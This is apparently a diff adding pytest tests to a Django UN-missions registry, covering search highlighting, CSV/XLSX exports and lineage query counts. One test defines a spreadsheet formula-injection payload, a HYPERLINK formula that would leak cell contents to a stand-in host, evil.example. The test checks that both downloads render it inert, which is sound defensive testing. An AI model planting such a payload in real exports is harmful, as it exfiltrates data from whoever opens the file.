@@ -1,15 +1,21 @@
 """The analyst UI rendered on the server: what a reader sees on each page, without JavaScript."""
 
 import csv
+import html
 import io
 import re
 from datetime import date
 
 import pytest
+from django.db import connection
+from django.db.models.signals import post_init
+from django.test.utils import CaptureQueriesContext
 from django.urls import reverse
 from openpyxl import load_workbook
 
-from missions.models import Mission
+from missions.models import Cluster, Country, Mission, Transition
+from missions.templatetags.registry import highlight
+from tests.factories import MissionFactory, TransitionFactory
 
 pytestmark = pytest.mark.usefixtures("seeded_db")
 
@@ -154,6 +160,25 @@ def test_results_are_paginated_and_pages_keep_the_filters(client):
     assert set(result_acronyms(page2)).isdisjoint(result_acronyms(response))
 
 
+def test_highlighting_a_word_inside_an_entity_keeps_the_text_intact(client):
+    MissionFactory(acronym="UNPSC", name="Peace & Security Office of the AMP")
+    body = text(client.get("/search/", {"q": "amp"}))
+    assert "Peace &amp; Security Office of the <mark>AMP</mark>" in body
+    assert "&<mark>" not in body
+
+
+def test_highlight_escapes_terms_and_text_and_marks_only_the_raw_matches():
+    assert highlight("Peace & Security", ["amp"]) == "Peace &amp; Security"
+    marked = highlight("<b>Bold</b> & <B>", ["<b>", "&"])
+    assert marked == (
+        "<mark>&lt;b&gt;</mark>Bold&lt;/b&gt; <mark>&amp;</mark> <mark>&lt;B&gt;</mark>"
+    )
+    assert highlight("UNIPSIL in UN", ["un", "unipsil"]) == (
+        "<mark>UNIPSIL</mark> in <mark>UN</mark>"
+    )
+    assert highlight(None, ["x"]) == "" and highlight("<i>", []) == "&lt;i&gt;"
+
+
 def test_search_and_facets_take_a_bounded_number_of_queries(client, django_assert_max_num_queries):
     with django_assert_max_num_queries(20):
         response = client.get(
@@ -173,14 +198,79 @@ def test_htmx_request_gets_the_results_fragment(client):
     assert "<html" in text(full)
 
 
+def page_rows(response) -> list[dict]:
+    """Return what each result row of a search page shows, as plain text by column."""
+    rows = []
+    for row in re.findall(r"<tr>(.*?)</tr>", text(response).split("<tbody>")[1], re.S):
+        cells = re.findall(r"<td[^>]*>(.*?)</td>", row, re.S)
+        name = re.search(r'class="result-name">(.*?)</span>', cells[1], re.S).group(1)
+        rows.append(
+            {
+                "href": re.search(r'href="([^"]+)"', cells[0]).group(1),
+                "acronym": html.unescape(plain(cells[0])),
+                "name": html.unescape(plain(name)),
+                "cluster": html.unescape(plain(cells[2].split('<span class="badge">')[0])).strip(),
+                "countries": html.unescape(plain(cells[3])),
+                "period": " ".join(plain(cells[4]).split()),
+            }
+        )
+    return rows
+
+
+def expected_csv_row(shown: dict) -> list[str]:
+    """Return the CSV row of a result as the page shows it (the rest from the record)."""
+    mission = Mission.objects.get(acronym=shown["acronym"])
+    clusters = {c.name: c.slug for c in Cluster.objects.all()}
+    countries = {c.name: c.iso3 for c in Country.objects.all()}
+    start, _dash, rest = shown["period"].partition(" – ")
+    end, _space, badge = rest.partition(" ")
+    return [
+        shown["acronym"],
+        shown["name"],
+        clusters[shown["cluster"]],
+        mission.kind,
+        mission.category,
+        mission.mandating_body,
+        mission.region.name if mission.region else "",
+        ";".join(countries[c] for c in shown["countries"].split(", ") if c != "—"),
+        "" if start == "?" else start,
+        "" if end in ("?", "present") else end,
+        "active" if badge == "active" else "closed",
+        f"http://testserver{shown['href']}",
+    ]
+
+
 def test_csv_download_has_the_rows_of_the_page_in_the_same_order(client):
     params = {"q": "Sierra Leone", "sort": "acronym"}
-    page = [plain(a) for a in result_acronyms(client.get("/search/", params))]
+    page = page_rows(client.get("/search/", params))
     response = client.get(reverse("missions:mission_export", args=["csv"]), params)
     assert response["Content-Type"].startswith("text/csv")
     rows = list(csv.reader(io.StringIO(text(response))))
     assert rows[0][:3] == ["Acronym", "Name", "Cluster"]
-    assert [row[0] for row in rows[1:]] == page
+    assert rows[1:] == [expected_csv_row(shown) for shown in page]
+    # UNCT-SLE has no mandating body and no dates: those cells stay empty.
+    unct = next(row for row in rows if row[0] == "UNCT-SLE")
+    assert unct[5] == unct[8] == unct[9] == ""
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
+
+
+def test_a_name_that_looks_like_a_formula_is_inert_in_both_downloads(client):
+    MissionFactory(acronym="UNFORMULA", name=FORMULA, mandating_body="", end_date=None)
+    params = {"q": "UNFORMULA"}
+    response = client.get(reverse("missions:mission_export", args=["csv"]), params)
+    (row,) = list(csv.reader(io.StringIO(text(response))))[1:]
+    assert row[:2] == ["UNFORMULA", "'" + FORMULA]
+    assert row[5] == row[9] == ""
+
+    response = client.get(reverse("missions:mission_export", args=["xlsx"]), params)
+    sheet = load_workbook(io.BytesIO(response.content)).active
+    acronym, name = sheet["A2"], sheet["B2"]
+    assert (acronym.value, name.value) == ("UNFORMULA", FORMULA)
+    assert name.data_type == "s"
+    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
+    assert sheet["F2"].value is None and sheet["J2"].value is None
 
 
 def test_xlsx_download_has_every_result_across_pages(client):
@@ -240,6 +330,38 @@ def test_country_page_shows_every_presence_as_a_lineage(client):
     assert order == sorted(order)
     assert client.get("/countries/XXX/").status_code == 404
     assert "Sierra Leone" in text(client.get("/countries/"))
+
+
+def unrelated_transitions(count: int = 30) -> None:
+    other = Country.objects.exclude(iso3="SLE").first()
+    for index in range(count):
+        TransitionFactory(country=other if index % 2 else None)
+
+
+@pytest.mark.parametrize("path", ["/missions/UNIPSIL/", "/countries/SLE/"])
+def test_lineage_reads_only_the_transitions_of_the_pages_lineages(client, path):
+    loaded = []
+
+    def count(sender, instance, **kwargs):
+        loaded.append(instance.pk)
+
+    def visit() -> tuple[str, int, int]:
+        loaded.clear()
+        with CaptureQueriesContext(connection) as queries:
+            response = client.get(path)
+        assert response.status_code == 200
+        page = re.sub(r'name="csrfmiddlewaretoken" value="\w+"', "", text(response))
+        return page, len(queries), len(loaded)
+
+    post_init.connect(count, sender=Transition)
+    try:
+        before = visit()
+        unrelated_transitions()
+        after = visit()
+    finally:
+        post_init.disconnect(count, sender=Transition)
+    assert after == before
+    assert 0 < before[2] < Transition.objects.count() - 30
 
 
 # -- landscape ------------------------------------------------------------------------------------
